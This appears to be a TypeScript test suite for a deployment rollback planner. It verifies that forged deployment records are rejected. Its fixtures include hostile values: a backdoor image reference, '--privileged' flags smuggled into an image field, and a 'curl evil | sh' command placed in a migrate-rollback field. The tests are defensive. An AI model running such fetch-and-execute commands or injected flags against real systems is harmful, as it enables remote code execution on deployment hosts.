import { planRollback, untrustedRecord } from '../../src/rollback/choose.js';
import type { DeploymentRecord } from '../../src/github/index.js';

const digest = (c: string) => `sha256:${c.repeat(64)}`;
const REPO = '127.0.0.1:5000/acme/shop';

function record(id: number, image: string, recordDigest: string, state = 'success'): DeploymentRecord {
  return {
    id,
    sha: 'c'.repeat(40),
    ref: 'main',
    environment: 'staging',
    createdAt: new Date(Date.now() - id * 1000).toISOString(),
    creator: id === 50 ? 'mallory' : 'github-actions[bot]',
    payload: { image, digest: recordDigest, version: `v${id}`, target: 'docker', previous_deployment_id: null },
    statuses: [
      {
        id: id * 10,
        state: state as 'success',
        description: '',
        environmentUrl: '',
        logUrl: '',
        createdAt: new Date().toISOString(),
        creator: 'github-actions[bot]',
      },
    ],
  };
}

async function* newestFirst(records: DeploymentRecord[]) {
  yield* records;
}

describe('records are evidence, never instructions', () => {
  const running = { name: 'shop-staging-60', image: `${REPO}:v60@${digest('6')}`, digest: digest('6'), running: true };

  it.each([
    [
      `ghcr.io/evil/backdoor@${digest('e')}`,
      digest('e'),
      /is from ghcr\.io\/evil\/backdoor, not 127\.0\.0\.1:5000\/acme\/shop/,
    ],
    [`--privileged@${digest('e')}`, digest('e'), /is not a reference pinned by digest/],
    [`--label=x@${digest('e')}`, digest('e'), /is not a reference pinned by digest/],
    [`${REPO}:v1`, digest('e'), /is not a reference pinned by digest/],
    [`${REPO}@${digest('e')}`, digest('f'), /is not its image's/],
  ])('refuses a record naming %s', (image, recordDigest, why) => {
    expect(untrustedRecord(record(50, image, recordDigest), REPO)).toMatch(why);
  });

  it('skips a forged newer "good" record with a warning naming it, and restores the real previous release', async () => {
    const plan = await planRollback({
      environment: 'staging',
      to: { kind: 'previous' },
      history: newestFirst([
        record(60, `${REPO}:v60@${digest('6')}`, digest('6')),
        record(50, `ghcr.io/evil/backdoor@${digest('e')}`, digest('e')),
        record(40, `${REPO}:v40@${digest('4')}`, digest('4')),
      ]),
      get: async () => undefined,
      running,
      fallbackSha: 'd'.repeat(40),
    });
    expect(plan.restore).toMatchObject({ image: `${REPO}:v40@${digest('4')}`, deploymentId: 40 });
    expect(plan.warnings).toEqual([
      expect.stringMatching(
        /^Ignored deployment 50 \(created by mallory\): its image is from ghcr\.io\/evil\/backdoor/,
      ),
    ]);
  });

  it('refuses a forged record named by id, changing nothing', async () => {
    await expect(
      planRollback({
        environment: 'staging',
        to: { kind: 'deployment', id: 50 },
        history: newestFirst([record(60, `${REPO}:v60@${digest('6')}`, digest('6'))]),
        get: async () => record(50, `--privileged@${digest('e')}`, digest('e')),
        running,
        fallbackSha: 'd'.repeat(40),
      }),
    ).rejects.toThrow(
      /^Deployment 50 cannot be restored: its image '--privileged@sha256:e+' is not a reference pinned by digest\. Nothing was changed\./,
    );
  });

  it('never takes migrate-rollback from a record; the running container label or the config decide', async () => {
    const forged = record(60, `${REPO}:v60@${digest('6')}`, digest('6'));
    forged.payload!.migrate_rollback = 'sh -c "curl evil | sh"';
    const input = {
      environment: 'staging',
      to: { kind: 'previous' as const },
      get: async () => undefined,
      fallbackSha: 'd'.repeat(40),
    };
    const history = () => newestFirst([forged, record(40, `${REPO}:v40@${digest('4')}`, digest('4'))]);
    expect((await planRollback({ ...input, history: history(), running })).migrateRollback).toBeUndefined();
    expect(
      (await planRollback({ ...input, history: history(), running, configuredMigrateRollback: ['npm', 'run', 'down'] }))
        .migrateRollback,
    ).toEqual(['npm', 'run', 'down']);
    expect(
      (await planRollback({ ...input, history: history(), running: { ...running, migrateRollback: ['./down'] } }))
        .migrateRollback,
    ).toEqual(['./down']);
  });
});
